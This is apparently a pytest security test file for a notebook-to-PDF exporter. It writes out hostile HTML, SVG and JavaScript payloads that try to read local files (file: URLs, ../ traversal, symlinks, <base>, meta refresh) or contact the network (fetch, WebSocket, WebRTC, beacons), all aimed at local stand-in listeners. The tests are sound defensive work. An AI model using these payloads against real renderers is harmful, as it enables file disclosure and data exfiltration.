"""Exporting someone else's notebook is safe (workbook_tools/report/).

A student's notebook may be hostile. Its HTML, Markdown, SVG and JavaScript try
every way we know to copy a local file into the PDF or to reach the network:
frames, objects, embeds, images, style sheets and fonts with file: URLs and ../
paths, a symlink out of the notebook's folder, a directory listing, <base>,
<meta refresh>, and scripts with fetch, XHR, WebSocket, WebRTC, beacons and
navigation. Outside the notebook's folder lies a secret with a random token; a
TCP and a UDP listener on 127.0.0.1 stand in for the network. Each export must
succeed, contain not one byte of the token (text and raw PDF), let no connection
reach a listener, and say what it left out. A benign notebook keeps its figures.
"""
from __future__ import annotations

import base64
import html
import logging
import os
import re
import secrets
import socket
import subprocess
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from workbook_tools.report import export_pdf

from _pdf_tools import chromium, needs

TOKEN = "TOKEN" + secrets.token_hex(10).upper()

pytestmark = needs("pdftotext", "pdfimages")
_chromium = chromium()


# --------------------------------------------------------------------------- the stage


class Listeners:
    """A TCP server (http:, ws:, TURN over TCP) and a UDP socket (STUN, TURN) on 127.0.0.1."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp_port, self.udp_port = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        self.hits: list[tuple[str, bytes]] = []
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _accept(self):
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            conn.settimeout(0.5)
            try:
                data = conn.recv(120)
            except OSError:
                data = b""
            self.hits.append(("tcp", data))
            conn.close()

    def _receive(self):
        while True:
            try:
                data, _ = self.udp.recvfrom(2048)
            except OSError:
                return
            self.hits.append(("udp", data[:40]))

    def close(self):
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def net():
    listeners = Listeners()
    yield listeners
    listeners.close()


def _svg(text: str, colour: str = "black") -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="420" height="40">'
            f'<text x="5" y="28" font-size="20" fill="{colour}">{text}</text></svg>')


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """``root/private`` holds the secret; ``root/student`` is the notebook's folder."""
    root = tmp_path_factory.mktemp("hostile")
    private = root / "private"
    private.mkdir()
    (private / "passwd.txt").write_text(f"root:x:0:0:{TOKEN}:/root:/bin/sh\n")
    (private / f"{TOKEN}.key").write_text("a directory listing shows this file's name\n")
    # Shown as an image, this SVG would put the token into the PDF as text.
    (private / "secret.svg").write_text(_svg(TOKEN))
    (private / "secret.html").write_text(f"<p>{TOKEN}</p>")
    (private / "secret.css").write_text(f'body::after {{ content: "{TOKEN}"; }}')
    (private / "secret.png").write_bytes(_png(7, SECRET_PNG_SIZE))  # pdfimages would list it by its size
    student = root / "student"
    (student / "figures").mkdir(parents=True)
    (student / "link.svg").symlink_to(private / "secret.svg")
    (student / "link.png").symlink_to(private / "secret.png")
    (student / "linkdir").symlink_to(private)
    (student / "figures" / "plot.png").write_bytes(_png(0))
    (student / "figures" / "label.svg").write_text(_svg("INSIDE" + TOKEN[::-1], "navy"))
    return SimpleNamespace(root=root, private=private, student=student, out=root / "out")


SECRET_PNG_SIZE = (123, 77)  # pixels: no other image in these PDFs has this size


def _png(seed: int, size: tuple[int, int] = (100, 75)) -> bytes:
    import io

    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(size[0] / 50, size[1] / 50), dpi=50)
    ax.plot([0, 1, 2], [seed, 1, 0])
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    plt.close(fig)
    return buf.getvalue()


class _Collect(logging.Handler):
    def __init__(self):
        super().__init__(logging.WARNING)
        self.messages: list[str] = []

    def emit(self, record):
        self.messages.append(record.getMessage())


def export(site, net, name: str, cells) -> SimpleNamespace:
    """Export ``cells`` as ``student/<name>.ipynb``; check the token and the listeners."""
    nb = new_notebook(cells=[new_markdown_cell(f"# Hostile {name}\n\nVisible text of {name}."), *cells])
    path = site.student / f"{name}.ipynb"
    nbformat.write(nb, path)
    assert TOKEN not in path.read_text(), "the test notebook must not contain the token itself"
    net.hits.clear()
    collect = _Collect()
    logger = logging.getLogger("workbook_tools.report")
    logger.addHandler(collect)
    try:
        pdf = export_pdf(path, site.out)
    finally:
        logger.removeHandler(collect)
    time.sleep(0.3)  # a connection still under way reaches the listener by now
    assert net.hits == [], f"connections reached the listeners: {net.hits}"
    raw = pdf.read_bytes()
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(pdf), "-"], check=True,
                          capture_output=True, text=True).stdout
    assert f"Visible text of {name}" in re.sub(r"\s+", " ", text), "the page itself was not printed"
    for needle in (TOKEN, TOKEN.lower(), TOKEN[:12]):
        assert needle not in text, f"the secret is in the PDF text of {name}"
        for encoded in (needle.encode(), needle.encode("utf-16-be"), base64.b64encode(needle.encode())[:12]):
            assert encoded not in raw, f"the secret is in the raw PDF of {name}"
    return SimpleNamespace(pdf=pdf, text=text, warnings=collect.messages)


def raster_images(pdf: Path) -> list[tuple[int, int]]:
    """Width and height of each raster image (not the "smask" alpha channels)."""
    rows = subprocess.run(["pdfimages", "-list", str(pdf)], check=True, capture_output=True,
                          text=True).stdout.splitlines()[2:]
    return [(int(r.split()[3]), int(r.split()[4])) for r in rows if r.split()[2] == "image"]


def html_output(html: str):
    return new_output("display_data", data={"text/html": html, "text/plain": "<HTML>"})


def code_cell(*outputs):
    cell = new_code_cell("show()")
    cell.outputs = list(outputs)
    return cell


# --------------------------------------------------------------------------- local files


def _file_vectors(s) -> str:
    """HTML that would show a local file: absolute file: URLs, ../ paths, symlinks, a listing."""
    p = s.private
    return f"""
<iframe src="file://{p}/passwd.txt" width="500" height="60"></iframe>
<iframe src="../private/secret.html"></iframe>
<iframe src="file://{p}/" width="500" height="80"></iframe>
<iframe srcdoc="<iframe src='file://{p}/passwd.txt'></iframe><img src='file://{p}/secret.svg'>"></iframe>
<object data="file://{p}/passwd.txt" type="text/plain" width="500" height="60"></object>
<object data="../private/secret.html" type="text/html"></object>
<embed src="file://{p}/secret.svg" type="image/svg+xml">
<embed src="../private/passwd.txt" type="text/plain">
<img src="../private/secret.svg"><img src="file://{p}/secret.svg"><img src="file://localhost{p}/secret.svg">
<img src="../private/secret.png"><img src="file://{p}/secret.png"><img src="link.png">
<img src="link.svg"><img src="linkdir/secret.svg"><img src="..%2fprivate%2fsecret.svg">
<img src="figures/../../private/secret.svg"><img src="/{p}/secret.svg">
<link rel="stylesheet" href="file://{p}/secret.css"><link rel="stylesheet" href="../private/secret.css">
<style>@import url("file://{p}/secret.css"); @import "../private/secret.css";
.bg {{ background-image: url("file://{p}/secret.svg"); width: 420px; height: 40px; }}
@font-face {{ font-family: leak; src: url("../private/secret.svg"); }}</style>
<div class="bg">background</div>
<svg width="420" height="120" xmlns="http://www.w3.org/2000/svg">
  <foreignObject width="420" height="60"><iframe src="file://{p}/passwd.txt"></iframe></foreignObject>
  <image href="file://{p}/secret.svg" width="420" height="40"/><image href="../private/secret.svg" y="60"/>
  <use href="file://{p}/secret.svg#x"/>
</svg>
<video src="file://{p}/secret.svg" poster="file://{p}/secret.svg"></video>
"""


def _svg_output(s) -> str:
    p = s.private
    return (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'width="420" height="120"><foreignObject width="420" height="60">'
            f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="file://{p}/passwd.txt"></iframe>'
            f'</foreignObject><image xlink:href="file://{p}/secret.svg" width="420" height="40"/>'
            f'<image href="../private/secret.svg" y="60" width="420" height="40"/></svg>')


def test_local_files_stay_out_of_markdown_and_outputs(site, net):
    cells = [
        new_markdown_cell("## Raw HTML in Markdown\n\n" + _file_vectors(site)),
        new_markdown_cell(f"![up](../private/secret.svg) ![abs](file://{site.private}/secret.svg) "
                          "![link](link.svg) ![dir](linkdir/secret.svg) ![png](../private/secret.png) "
                          f"![png](file://{site.private}/secret.png) ![png](link.png) ![png](linkdir/secret.png)"),
        code_cell(html_output(_file_vectors(site)),
                  new_output("display_data", data={"image/svg+xml": _svg_output(site), "text/plain": "<SVG>"}),
                  new_output("display_data", data={"text/markdown": "![md](../private/secret.svg)"}),
                  new_output("execute_result", data={"text/html": _file_vectors(site)}, execution_count=1)),
    ]
    out = export(site, net, "files", cells)
    # Chromium's small "broken image" icons are all the raster images there may be.
    assert SECRET_PNG_SIZE not in raster_images(out.pdf), "the secret image was printed"
    joined = " ".join(out.warnings)
    assert "file:" in joined and "outside" in joined, out.warnings


def test_base_href_cannot_redirect_relative_urls(site, net):
    cells = [new_markdown_cell(f'<base href="file://{site.private}/">\n\n'
                               '<img src="secret.svg"> <iframe src="passwd.txt"></iframe> ![b](secret.svg)')]
    out = export(site, net, "base", cells)
    assert any("<base>" in w or "base-uri" in w for w in out.warnings), out.warnings


@pytest.mark.parametrize("target", ["file", "network", "blank", "self"])
def test_meta_refresh_cannot_navigate_the_page_away(site, net, target):
    url = {"file": f"file://{site.private}/passwd.txt", "network": f"http://127.0.0.1:{net.tcp_port}/refresh",
           "blank": "about:blank", "self": "report.html?again"}[target]
    cells = [new_markdown_cell(f'<meta http-equiv="refresh" content="0;url={url}">\n\nRefresh to {target}.'),
             code_cell(html_output(f'<META HTTP-EQUIV=Refresh CONTENT="0; URL={url}">'))]
    out = export(site, net, f"refresh-{target}", cells)
    assert f"Refresh to {target}." in out.text
    assert any("meta" in w for w in out.warnings), out.warnings


# --------------------------------------------------------------------------- scripts and the network


def _script(net, n: int, private: Path) -> str:
    """JavaScript that tries every way out; each attempt on its own, so one failure stops none."""
    t, u = f"http://127.0.0.1:{net.tcp_port}", net.udp_port
    attempts = [
        f'fetch("{t}/fetch")',
        f'fetch("file://{private}/passwd.txt").then(r => r.text()).then(x => document.body.append(x))',
        f'var x = new XMLHttpRequest(); x.open("GET", "{t}/xhr"); x.send()',
        f'new WebSocket("ws://127.0.0.1:{net.tcp_port}/ws")',
        f'var pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{u}"}}, '
        f'{{urls: "turn:127.0.0.1:{u}", username: "u", credential: "p"}}, '
        f'{{urls: "turn:127.0.0.1:{net.tcp_port}?transport=tcp", username: "u", credential: "p"}}]}}); '
        'pc.createDataChannel("leak"); pc.createOffer().then(o => pc.setLocalDescription(o))',
        f'navigator.sendBeacon("{t}/beacon", "x")',
        f'new Image().src = "{t}/image"',
        f'window.open("{t}/open")',
        f'new EventSource("{t}/events")',
        f'new Worker("data:text/javascript,fetch(%22{t}/worker%22)")',
        f'document.body.append("SCRIPT" + "-RAN-" + {n})',
        f'setTimeout(function () {{ location = "{t}/location"; }}, 30)',
    ]
    return "\n".join(f"try {{ {a}; }} catch (e) {{}}" for a in attempts)


def _network_vectors(net) -> str:
    t = f"http://127.0.0.1:{net.tcp_port}"
    return f"""
<link rel="preconnect" href="{t}/"><link rel="dns-prefetch" href="{t}/"><link rel="prefetch" href="{t}/prefetch">
<link rel="preload" as="image" href="{t}/preload"><link rel="stylesheet" href="{t}/style.css">
<img src="{t}/img.png"><img srcset="{t}/srcset.png 2x"><video src="{t}/video.mp4" poster="{t}/poster.png"></video>
<audio src="{t}/audio.mp3" autoplay></audio><iframe src="{t}/frame"></iframe><object data="{t}/object"></object>
<embed src="{t}/embed"><style>.n {{ background: url("{t}/css.png"); }} @import "{t}/import.css";</style>
<div class="n">n</div><form action="{t}/form" method="post"><input name="q" autofocus></form>
<img src="ws://127.0.0.1:{net.tcp_port}/ws-img"><iframe src="javascript:fetch('{t}/js-url')"></iframe>
"""


def test_scripts_never_run_and_nothing_reaches_the_network(site, net):
    js = lambda n: _script(net, n, site.private)  # noqa: E731
    attr = lambda n: html.escape(js(n), quote=True)  # noqa: E731
    cells = [
        new_markdown_cell(f"## Scripts in Markdown\n\n<script>{js(1)}</script>\n\n" + _network_vectors(net)
                          + f'<img src="x" onerror="{attr(2)}"><svg onload="{attr(3)}"></svg>'
                          + f'<body onload="{attr(4)}"></body>'),
        code_cell(new_output("display_data", data={"application/javascript": js(5), "text/plain": "<JS>"}),
                  html_output(f"<script>{js(6)}</script>" + _network_vectors(net)),
                  new_output("display_data", data={"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg">'
                                                                     f'<script>{js(7)}</script></svg>'})),
    ]
    out = export(site, net, "scripts", cells)
    assert "SCRIPT-RAN" not in out.text, "a notebook script ran"
    assert "SCRIPT" not in out.text and "RTCPeerConnection" not in out.text
    joined = " ".join(out.warnings)
    assert "network" in joined and "127.0.0.1" in joined, out.warnings
    assert "script" in joined, out.warnings


def _launch_and_run(args_for_launch, net) -> list:
    """Open a blank page in Chromium and run the escape script through DevTools (no CSP)."""
    from playwright.sync_api import sync_playwright

    net.hits.clear()
    with sync_playwright() as pw:
        browser = args_for_launch(pw)
        try:
            page = browser.new_page()
            page.evaluate(_script(net, 9, Path("/nonexistent")))
            time.sleep(1.5)
        finally:
            browser.close()
    time.sleep(0.3)
    return list(net.hits)


def test_the_browser_itself_cannot_connect_even_if_a_script_ran(net):
    """The launch flags alone (no resolver, no non-proxied UDP) stop fetch, WebSocket and WebRTC.

    The control run, with a plain Chromium, shows that the listeners do see the
    browser: without it this test could pass for a broken listener.
    """
    from workbook_tools.report import browser as b

    control = _launch_and_run(lambda pw: pw.chromium.launch(executable_path=_chromium, args=["--no-sandbox"]), net)
    assert {kind for kind, _ in control} == {"tcp", "udp"}, control
    assert _launch_and_run(lambda pw: b.launch(pw, _chromium), net) == []


def test_chromium_keeps_its_sandbox_unless_it_runs_as_root(monkeypatch):
    from workbook_tools.report import browser as b

    monkeypatch.setattr(os, "geteuid", lambda: 1000, raising=False)
    assert b.use_sandbox() is True
    monkeypatch.setattr(os, "geteuid", lambda: 0, raising=False)
    assert b.use_sandbox() is False


# --------------------------------------------------------------------------- what must still work


def test_the_notebooks_own_images_still_print(site, net):
    """An image file in the notebook's folder, an attachment, and an SVG figure with text."""
    attached = new_markdown_cell("An attachment: ![att](attachment:att.png)")
    attached.attachments = {"att.png": {"image/png": base64.b64encode(_png(1)).decode()}}
    cells = [new_markdown_cell("A file beside the notebook: ![plot](figures/plot.png)"), attached,
             new_markdown_cell("<img src='figures/label.svg'> and $\\alpha + \\beta$")]
    out = export(site, net, "benign", cells)
    assert sorted(raster_images(out.pdf)) == [(100, 75), (100, 75)]
    # The SVG's text comes through as text: an SVG secret shown as an image would be found.
    assert "INSIDE" + TOKEN[::-1] in out.text
    assert "\\alpha" not in out.text and "$" not in out.text
    assert out.warnings == []


def test_no_configuration_lets_nbconvert_read_files_into_the_page(site):
    """nbconvert's embed_images reads images itself, before any browser; it refuses ../ but
    follows a symlink out of the folder."""
    from traitlets.config import Config

    from workbook_tools.report import ReportExporter

    config = Config({"HTMLExporter": {"embed_images": True}, "ReportExporter": {"embed_images": True}})
    nb = new_notebook(cells=[new_markdown_cell(f"![x](../private/secret.svg) ![y]({site.private}/secret.svg) ![z](link.svg)")])
    page, _ = ReportExporter(config=config).to_html(nb, {"metadata": {"name": "x", "path": str(site.student)}})
    assert TOKEN not in page
    inlined = [base64.b64decode(b) for b in re.findall(r"base64,([A-Za-z0-9+/]+=*)", page)]
    assert inlined and not [b for b in inlined if TOKEN.encode() in b], "an image was read into the page"


# --------------------------------------------------------------------------- command line


def test_timeout_must_be_a_positive_whole_number(capsys):
    from workbook_tools.report.cli import main

    for bad in ("0", "-5", "abc", "1.5"):
        with pytest.raises(SystemExit) as exit_:
            main(["some.ipynb", "--timeout", bad])
        assert exit_.value.code == 2
        err = capsys.readouterr().err
        assert "--timeout" in err and "positive whole number" in err, err


def _unwritable(tmp_path: Path) -> Path:
    """A folder the export cannot write to, also when the tests run as root."""
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        assert Path("/proc/self").is_dir()
        return Path("/proc/self/reports")
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    return locked / "reports"


@pytest.fixture
def unworked_notebook(tmp_path, monkeypatch):
    """A one-cell notebook, with executing and rendering made to fail loudly: the checks must come first."""
    from workbook_tools.report import export as export_module, render

    def no_work(*args, **kw):
        raise AssertionError("executed or rendered before the output folder was checked")

    monkeypatch.setattr(export_module, "execute_notebook", no_work)
    monkeypatch.setattr(render, "html_to_pdf", no_work)
    src = tmp_path / "nb.ipynb"
    nbformat.write(new_notebook(cells=[new_code_cell("1")]), src)
    return src


def test_an_unusable_output_folder_is_found_before_any_work(tmp_path, unworked_notebook, capsys):
    from workbook_tools.report import cli

    src = unworked_notebook
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    cases = {a_file: "is a file", a_file / "sub": "cannot be created",
             _unwritable(tmp_path): "cannot be", tmp_path / "ok" / "deeper": None}
    for out, expected in cases.items():
        status = cli.main([str(src), "--execute", "-o", str(out)])
        err = capsys.readouterr().err
        if expected is None:  # a folder that can be created gets as far as the work
            assert "executed or rendered before" in err and not out.exists()
            continue
        assert status == 1 and len(err.strip().splitlines()) == 1, err
        assert err.startswith(f"report: {src}: output folder {out} {expected}"), err


def test_an_output_name_taken_by_a_folder_or_too_long_is_found_before_any_work(tmp_path, unworked_notebook, capsys):
    from workbook_tools.report import cli

    src = unworked_notebook
    (tmp_path / "out" / "nb.pdf").mkdir(parents=True)
    too_long = tmp_path / ("x" * 300)
    cases = {tmp_path / "out": f"{tmp_path / 'out' / 'nb.pdf'} is a folder, so the PDF cannot be written there",
             too_long: f"output folder {too_long} cannot be used (File name too long)"}
    for out, expected in cases.items():
        status = cli.main([str(src), "--execute", "-o", str(out)])
        err = capsys.readouterr().err
        assert status == 1 and len(err.strip().splitlines()) == 1, err
        assert err.startswith(f"report: {src}: {expected}") and "choose another" in err, err
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["nb.pdf"]


def test_a_write_that_fails_at_the_end_is_one_clear_line_and_leaves_nothing(tmp_path, monkeypatch, capsys):
    """The folder can change between the early check and the end (full disk, an immutable file)."""
    from workbook_tools.report import cli, export as export_module

    monkeypatch.setattr(export_module, "_render", lambda *args: b"%PDF-1.4 rendered")

    def refuse(src, dst):
        raise PermissionError(1, "Operation not permitted", str(src), None, str(dst))

    src = tmp_path / "nb.ipynb"
    nbformat.write(new_notebook(cells=[new_code_cell("1")]), src)
    out = tmp_path / "out"
    monkeypatch.setattr(os, "replace", refuse)  # atomic_write's rename into place
    status = cli.main([str(src), "-o", str(out)])
    err = capsys.readouterr().err
    assert status == 1 and len(err.strip().splitlines()) == 1, err
    assert err.startswith(f"report: {src}: could not write {out / 'nb.pdf'} (Operation not permitted); "
                          "nothing was written"), err
    assert list(out.iterdir()) == []


def test_two_notebooks_with_one_pdf_name_are_refused_before_any_work(tmp_path, monkeypatch, capsys):
    from workbook_tools.report import cli

    def no_work(*args, **kw):
        raise AssertionError("exported although the second PDF would overwrite the first")

    monkeypatch.setattr(cli, "export_pdf", no_work)
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        nbformat.write(new_notebook(cells=[new_code_cell("1")]), tmp_path / folder / "lab.ipynb")
    first, second = str(tmp_path / "a" / "lab.ipynb"), str(tmp_path / "b" / "lab.ipynb")
    assert cli.main([first, second, "-o", str(tmp_path / "out")]) == 1
    err = capsys.readouterr().err
    assert err == (f"report: {first} and {second} would both be written to lab.pdf, the second over the first: "
                   "export them one at a time, each with its own -o folder\n")
    assert not (tmp_path / "out").exists()
